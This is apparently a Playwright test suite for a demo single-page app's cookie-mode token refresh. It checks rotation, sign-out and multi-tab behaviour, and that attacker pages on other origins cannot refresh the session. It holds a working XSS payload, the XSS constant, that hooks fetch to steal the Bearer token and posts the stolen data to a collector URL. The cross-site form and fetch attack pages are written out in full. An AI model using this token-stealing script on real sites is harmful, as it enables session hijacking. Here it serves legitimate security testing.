"""The demo SPA in Chromium: cookie mode across two origins, and what an attacker can reach.

``make demo`` serves the API on one port and the single-page app of
``demo_project/spa`` on another (two origins of the site ``127.0.0.1``).
The app signs in in cookie mode: the access token stays in its memory, the
refresh token in an HttpOnly ``SameSite=Strict`` cookie on the API's origin.
Each test reads the cookie with Playwright's privileged
``context.cookies()`` and the session it belongs to in the demo's database.

The attackers' pages (another port of ``127.0.0.1``, same site; and
``localhost``, another site) and the collector an injected script posts to
are one small HTTP server of the test's own (:class:`Attacker`).
"""

from __future__ import annotations

import hashlib
import json
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
import requests

from tests.browser.conftest import CHROMIUM_ARGS
from tests.browser.demo_client import query_demo
from tests.conftest import CHROMIUM
from tests.processes import DemoServer

pytestmark = [pytest.mark.browser, pytest.mark.slow]

#: The refresh cookie's name on plain-http loopback in DEBUG (``__Host-bearer_refresh`` on https).
REFRESH_COOKIE = "bearer_refresh"
#: The status once the app has listed the notes with its access token.
NOTES_LISTED = re.compile(r"Signed in: \d+ notes?\.")
#: The demo's access-token lifetime (BEARER_AUTH's default): the SPA refreshes 30 s before.
ACCESS_TOKEN_SECONDS = 300


# The browser.


@pytest.fixture
def chromium(_service_requirements: None) -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            yield browser
        finally:
            browser.close()


@pytest.fixture
def context(chromium: Any) -> Iterator[Any]:
    """A fresh browser profile: its own cookie jar."""
    context = chromium.new_context()
    try:
        yield context
    finally:
        context.close()


# The demo's side.


def refresh_url(demo: DemoServer) -> str:
    return f"{demo.base_url}/auth/token/refresh/"


def refresh_cookie(context: Any, demo: DemoServer) -> dict[str, Any] | None:
    """The refresh cookie in the browser's jar (privileged: no page script can do this)."""
    cookies = [c for c in context.cookies(demo.base_url) if c["name"] == REFRESH_COOKIE]
    assert len(cookies) <= 1, cookies
    return cookies[0] if cookies else None


def family_of(demo: DemoServer, refresh_token: str) -> str:
    """The session (DOT token family) a refresh token belongs to."""
    checksum = hashlib.sha256(refresh_token.encode()).hexdigest()
    [(family,)] = query_demo(
        demo,
        "SELECT token_family FROM oauth2_provider_refreshtoken WHERE token_checksum = ?",
        checksum,
    )
    return str(family)


def family_state(demo: DemoServer, family: str) -> tuple[int, bool]:
    """How many refresh tokens the family has had (rotations + 1), and whether it is revoked."""
    [(count,)] = query_demo(
        demo, "SELECT count(*) FROM oauth2_provider_refreshtoken WHERE token_family = ?", family
    )
    [(revoked,)] = query_demo(
        demo, "SELECT revoked FROM bearer_auth_tokensession WHERE token_family = ?", family
    )
    return int(count), revoked is not None


# The app's side.


def open_app(context: Any, demo: DemoServer) -> Any:
    page = context.new_page()
    assert demo.spa_url is not None
    page.goto(demo.spa_url)
    return page


def expect_signed_in(page: Any, demo: DemoServer) -> None:
    from playwright.sync_api import expect

    expect(page.locator("#who")).to_have_text(demo.email)
    expect(page.get_by_role("heading", name="Sign in")).to_be_hidden()
    expect(page.get_by_role("status")).to_have_text(NOTES_LISTED)


def expect_signed_out(page: Any) -> None:
    from playwright.sync_api import expect

    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    expect(page.get_by_role("heading", name="Your notes")).to_be_hidden()


def sign_in(page: Any, demo: DemoServer) -> None:
    expect_signed_out(page)
    page.get_by_label("Email address").fill(demo.email)
    page.get_by_label("Password").fill(demo.password)
    page.get_by_role("button", name="Sign in").click()
    expect_signed_in(page, demo)


def add_note(page: Any, title: str) -> None:
    from playwright.sync_api import expect

    page.get_by_label("Title").fill(title)
    page.get_by_label("Body").fill("written by the SPA")
    page.get_by_role("button", name="Add note").click()
    expect(page.get_by_role("list", name="Notes")).to_contain_text(title)


def no_error(page: Any) -> None:
    from playwright.sync_api import expect

    expect(page.get_by_role("alert")).to_be_hidden()


# The attackers' server.


class Attacker:
    """Pages on a third origin, and a collector for what an injected script found.

    ``pages`` maps a path to its HTML; a POST to ``/collect`` is recorded in
    ``collected``. Reached as ``http://127.0.0.1:<port>`` it is the API's
    site (another port); as ``http://localhost:<port>`` another site.
    """

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.collected: list[bytes] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                page = attacker.pages.get(self.path)
                body = (page or "not found").encode()
                self.send_response(200 if page else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                attacker.collected.append(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self.server.server_address[1])

    def url(self, host: str, path: str) -> str:
        return f"http://{host}:{self.port}{path}"


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    attacker = Attacker()
    thread = threading.Thread(target=attacker.server.serve_forever, daemon=True)
    thread.start()
    try:
        yield attacker
    finally:
        attacker.server.shutdown()
        attacker.server.server_close()


def wait_for(page: Any, predicate: Callable[[], bool], what: str, seconds: float = 10) -> None:
    """Let the browser run until ``predicate()`` holds (events dispatch while Playwright waits)."""
    for _ in range(int(seconds * 10)):
        if predicate():
            return
        page.wait_for_timeout(100)
    raise AssertionError(f"timed out waiting for {what}")


# The tests.


def test_sign_in_notes_silent_refresh_reload_and_sign_out(context: Any, demo: DemoServer) -> None:
    """The whole loop, the password typed once; the session ends revoked in the database."""
    from playwright.sync_api import expect

    page = context.new_page()
    # The page's timers run on Playwright's clock: the silent refresh, scheduled
    # from expires_in (300 s), comes when the clock is moved past it.
    page.clock.install()
    assert demo.spa_url is not None
    # The demo's landing page links the app.
    page.goto(f"{demo.base_url}/")
    page.get_by_role("link", name="Demo single-page app").click()
    page.wait_for_url(demo.spa_url)
    sign_in(page, demo)
    add_note(page, "Groceries from the SPA")
    first = refresh_cookie(context, demo)
    assert first is not None
    family = family_of(demo, first["value"])
    assert family_state(demo, family) == (1, False)

    # The silent refresh: nothing asked for it, the timer did.
    with page.expect_response(
        lambda response: response.url == refresh_url(demo) and response.request.method == "POST"
    ) as refreshed:
        page.clock.fast_forward((ACCESS_TOKEN_SECONDS - 25) * 1000)
    assert refreshed.value.status == 200
    assert "refresh_token" not in refreshed.value.json()
    second = refresh_cookie(context, demo)
    assert second is not None
    assert second["value"] != first["value"]  # rotated
    assert family_state(demo, family) == (2, False)
    expect(page.locator("#log")).to_contain_text("refreshing silently")
    page.get_by_role("button", name="Reload notes").click()
    expect(page.get_by_role("list", name="Notes")).to_contain_text("Groceries from the SPA")
    no_error(page)

    # A reload keeps the person signed in: the cookie, not the password.
    page.reload()
    expect_signed_in(page, demo)
    expect(page.get_by_role("list", name="Notes")).to_contain_text("Groceries from the SPA")
    assert page.get_by_label("Password").input_value() == ""
    assert family_state(demo, family) == (3, False)

    # Sign out: the session is revoked, the cookie gone; a reload shows the sign-in form.
    page.get_by_role("button", name="Sign out").click()
    expect_signed_out(page)
    assert family_state(demo, family) == (3, True)
    assert refresh_cookie(context, demo) is None
    page.reload()
    expect_signed_out(page)
    no_error(page)


def test_the_refresh_token_never_reaches_javascript(context: Any, demo: DemoServer) -> None:
    """Not in ``document.cookie`` nor in any response body the page gets; the cookie's flags."""
    from playwright.sync_api import expect

    bodies: list[tuple[str, bytes]] = []
    token_answers: list[dict[str, Any]] = []

    def record(response: Any) -> None:
        if response.request.method == "OPTIONS" or response.status in (204, 301, 302):
            return
        body = response.body()
        bodies.append((response.url, body))
        if response.url.startswith(f"{demo.base_url}/auth/token/") and response.ok and body:
            token_answers.append(json.loads(body))

    page = context.new_page()
    page.on("response", record)
    assert demo.spa_url is not None
    page.goto(demo.spa_url)
    sign_in(page, demo)
    values = set()
    seen_cookies = []

    def look() -> None:
        cookie = refresh_cookie(context, demo)
        assert cookie is not None
        values.add(cookie["value"])
        seen_cookies.append(cookie)
        assert cookie["value"] not in page.evaluate("document.cookie")
        assert page.evaluate("localStorage.length + sessionStorage.length") == 0
        assert cookie["value"] not in page.content()

    look()
    page.get_by_role("button", name="Refresh now").click()
    expect(page.locator("#log")).to_contain_text("Refreshed")
    look()
    page.reload()
    expect_signed_in(page, demo)
    look()
    expect(page.locator("#document-cookie")).not_to_contain_text(REFRESH_COOKIE)
    assert len(values) == 3  # signed in, refreshed, refreshed on reload

    assert len(token_answers) == 3
    for answer in token_answers:
        assert set(answer) == {"access_token", "token_type", "expires_in", "scope"}
    assert len(bodies) > len(token_answers)
    for url, body in bodies:
        for value in values:
            assert value.encode() not in body, url

    for cookie in seen_cookies:
        assert cookie["name"] == REFRESH_COOKIE
        assert cookie["domain"] == "127.0.0.1"  # host-only: the API's host
        assert cookie["path"] == "/"
        assert cookie["httpOnly"] is True
        assert cookie["sameSite"] == "Strict"
        assert cookie["secure"] is False  # plain-http loopback in DEBUG only


def test_a_page_on_another_port_of_the_same_site_cannot_refresh(
    context: Any, demo: DemoServer, attacker: Attacker
) -> None:
    """CORS refuses the preflight of the cookie-mode request; a simple POST is refused by the API.

    127.0.0.1:<another port> is the same *site* as the API: ``SameSite=Strict``
    lets the browser send the cookie. What holds is the header: cookie mode
    needs ``Refresh-Token-Delivery``, which a cross-origin page may send only
    after a preflight the API's CORS allow-list refuses; without it the API
    never reads the cookie.
    """
    app = open_app(context, demo)
    sign_in(app, demo)
    cookie = refresh_cookie(context, demo)
    assert cookie is not None
    family = family_of(demo, cookie["value"])
    app.close()  # no timer of the app's may refresh while the attacker tries
    before = family_state(demo, family)

    attacker.pages["/same-site.html"] = f"""<!doctype html><title>same site</title><script>
    const url = {json.dumps(refresh_url(demo))};
    window.results = (async () => {{
      const results = {{}};
      try {{
        const response = await fetch(url, {{
          method: "POST", credentials: "include",
          headers: {{"Refresh-Token-Delivery": "cookie"}},
        }});
        results.withHeader = `${{response.status}} ${{await response.text()}}`;
      }} catch (error) {{
        results.withHeader = `blocked: ${{error}}`;
      }}
      const simple = await fetch(url, {{method: "POST", credentials: "include", mode: "no-cors"}});
      results.simple = simple.type;
      return results;
    }})();
    </script>"""
    page = context.new_page()
    refreshes: list[Any] = []
    page.on("response", lambda r: refreshes.append(r) if r.url == refresh_url(demo) else None)
    page.goto(attacker.url("127.0.0.1", "/same-site.html"))
    results = page.evaluate("window.results")
    assert results["withHeader"].startswith("blocked: TypeError"), results
    assert results["simple"] == "opaque"  # the page learns nothing of the answer

    # Only the simple POST went out (the preflight stopped the other). The
    # browser may send the cookie with it (same site), but without the header
    # the API does not read it: refused, the session untouched.
    [simple] = refreshes
    assert simple.status == 400
    assert family_state(demo, family) == before
    assert refresh_cookie(context, demo) == cookie

    # The preflight the browser sent, as the API answers it: no CORS grant for that origin.
    preflight = requests.options(
        refresh_url(demo),
        headers={
            "Origin": attacker.url("127.0.0.1", ""),
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "refresh-token-delivery",
        },
        timeout=10,
    )
    assert "access-control-allow-origin" not in preflight.headers


def test_a_cross_site_form_post_cannot_refresh(
    context: Any, demo: DemoServer, attacker: Attacker
) -> None:
    """http://localhost:<port> auto-submits a form to the refresh endpoint: refused, no cookie."""
    app = open_app(context, demo)
    sign_in(app, demo)
    cookie = refresh_cookie(context, demo)
    assert cookie is not None
    family = family_of(demo, cookie["value"])
    app.close()
    before = family_state(demo, family)

    attacker.pages["/cross-site.html"] = f"""<!doctype html><title>cross site</title>
    <form method="post" action={json.dumps(refresh_url(demo))}>
      <input type="hidden" name="grant_type" value="refresh_token">
    </form>
    <script>document.forms[0].submit();</script>"""
    page = context.new_page()
    with page.expect_response(refresh_url(demo)) as answered:
        page.goto(attacker.url("localhost", "/cross-site.html"))
    response = answered.value
    assert response.status == 400
    assert response.json()["error"] == "invalid_request"
    # SameSite=Strict: the browser did not send the cookie with a cross-site POST
    # (these are the headers as sent: the browser's own Sec-Fetch-Site is among them).
    sent = response.request.all_headers()
    assert sent["sec-fetch-site"] == "cross-site"
    assert REFRESH_COOKIE not in sent.get("cookie", "")
    assert family_state(demo, family) == before
    assert refresh_cookie(context, demo) == cookie


def test_two_tabs_refreshing_at_the_same_moment_both_stay_signed_in(
    context: Any, demo: DemoServer
) -> None:
    """A route holds both tabs' refreshes until both arrived, then lets them go together.

    Both carry the same cookie: the server rotates it for one and answers the
    other 400 invalid_grant within ``REFRESH_REUSE_INTERVAL`` without revoking
    the family; that tab retries once, with the successor the browser's jar
    now holds. No lock between the tabs.
    """
    from playwright.sync_api import expect

    first = open_app(context, demo)
    sign_in(first, demo)
    second = open_app(context, demo)  # signed in by the cookie (a refresh on load)
    expect_signed_in(second, demo)
    cookie = refresh_cookie(context, demo)
    assert cookie is not None
    family = family_of(demo, cookie["value"])
    rotations_before, _ = family_state(demo, family)

    held: list[Any] = []
    released: list[Any] = []

    def barrier(route: Any) -> None:
        if route.request.method != "POST" or len(released) >= 2:
            route.continue_()
            return
        held.append(route)
        if len(held) == 2:
            for waiting in held:
                released.append(waiting.request)
                waiting.continue_()

    statuses: list[int] = []

    def retries(page: Any) -> int:
        """How often the tab's log says it retried (its first load, without a cookie, did once)."""
        return int(page.locator("#log li", has_text="retrying once").count())

    retries_before = [retries(page) for page in (first, second)]

    def answered(response: Any) -> None:
        if response.url == refresh_url(demo) and response.request.method == "POST":
            statuses.append(response.status)

    context.on("response", answered)
    context.route(refresh_url(demo), barrier)
    first.get_by_role("button", name="Refresh now").click()
    second.get_by_role("button", name="Refresh now").click()
    wait_for(first, lambda: len(released) == 2, "both refreshes at the barrier")
    wait_for(first, lambda: statuses.count(200) == 2, "both tabs refreshed")

    # The overlap: both sent the same cookie; one rotated it, the other was
    # answered 400 invalid_grant and retried once, with the successor.
    assert len({request.all_headers()["cookie"] for request in released}) == 1
    assert sorted(statuses) == [200, 200, 400]
    retried = [
        retries(page) - before for page, before in zip((first, second), retries_before, strict=True)
    ]
    assert sorted(retried) == [0, 1]
    for page in (first, second):
        page.get_by_role("button", name="Reload notes").click()
        expect(page.get_by_role("status")).to_have_text(NOTES_LISTED)
        no_error(page)
    assert family_state(demo, family) == (rotations_before + 2, False)

    # Signing out in one tab signs the other out too (the BroadcastChannel).
    first.get_by_role("button", name="Sign out").click()
    expect_signed_out(first)
    expect_signed_out(second)
    expect(second.locator("#log")).to_contain_text("Signed out in another tab.")
    assert family_state(demo, family) == (rotations_before + 2, True)


def test_an_injected_script_can_use_the_access_token_but_not_reach_the_refresh_token(
    chromium: Any, demo: DemoServer, attacker: Attacker
) -> None:
    """XSS in the SPA's own page: it spends the in-memory access token; the refresh token stays out.

    The page's Content-Security-Policy would stop the script's request to the
    collector; ``bypass_csp`` lets it through, to model a script that got past
    every defence: what it can *reach* is the claim here.
    """
    from playwright.sync_api import expect

    context = chromium.new_context(bypass_csp=True)
    try:
        page = open_app(context, demo)
        sign_in(page, demo)
        cookies_before = refresh_cookie(context, demo)
        assert cookies_before is not None
        collector = attacker.url("127.0.0.1", "/collect")
        page.add_script_tag(
            content=XSS.replace("API_ORIGIN", json.dumps(demo.base_url)).replace(
                "COLLECTOR", json.dumps(collector)
            )
        )
        wait_for(page, lambda: bool(attacker.collected), "the collector to get the loot")
        [raw] = attacker.collected
        found = json.loads(raw)
        cookie_after = refresh_cookie(context, demo)
        assert cookie_after is not None

        # What it could do: call the API as the person.
        assert found["authorization"].startswith("Bearer ey")
        assert found["notesStatus"] == 200
        # What it could not reach: the refresh token, anywhere.
        assert found["documentCookie"] == found["documentCookieAfter"]
        assert found["refreshStatus"] == 200
        assert "refresh_token" not in json.loads(found["refreshBody"])
        assert found["setCookie"] is None
        assert "set-cookie" not in [name for name, _ in found["refreshHeaders"]]
        for value in (cookies_before["value"], cookie_after["value"]):
            assert value.encode() not in raw
        # Its refresh rotated the cookie behind the app's back: the app's access
        # token is no longer the family's live one. The app's next call gets a 401,
        # refreshes once (the jar holds the successor) and goes on.
        with page.expect_response(refresh_url(demo)):
            page.get_by_role("button", name="Reload notes").click()
        expect(page.locator("#log")).to_contain_text("The API answered 401")
        expect(page.get_by_role("status")).to_have_text(NOTES_LISTED)
        no_error(page)
    finally:
        context.close()


#: What the injected script does, as an attacker's script in the SPA's page would.
XSS = """
(async () => {
  const api = API_ORIGIN;
  const realFetch = window.fetch;
  const found = {documentCookie: document.cookie};
  // The app's next API call carries the access token: wrap fetch and make the app call.
  found.authorization = await new Promise((resolve) => {
    window.fetch = (input, init = {}) => {
      const authorization = new Headers(init.headers || {}).get("Authorization");
      if (authorization) {
        window.fetch = realFetch;
        resolve(authorization);
      }
      return realFetch(input, init);
    };
    document.getElementById("reload-notes").click();
  });
  const notes = await realFetch(`${api}/api/notes/`, {
    headers: {Authorization: found.authorization},
  });
  found.notesStatus = notes.status;
  // A credentialed refresh from the app's own origin: the API answers it.
  const refreshed = await realFetch(`${api}/auth/token/refresh/`, {
    method: "POST", credentials: "include", headers: {"Refresh-Token-Delivery": "cookie"},
  });
  found.refreshStatus = refreshed.status;
  found.refreshBody = await refreshed.text();
  found.refreshHeaders = [...refreshed.headers];
  found.setCookie = refreshed.headers.get("set-cookie");
  found.documentCookieAfter = document.cookie;
  found.storage = {...localStorage, ...sessionStorage};
  await realFetch(COLLECTOR, {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
})();
"""
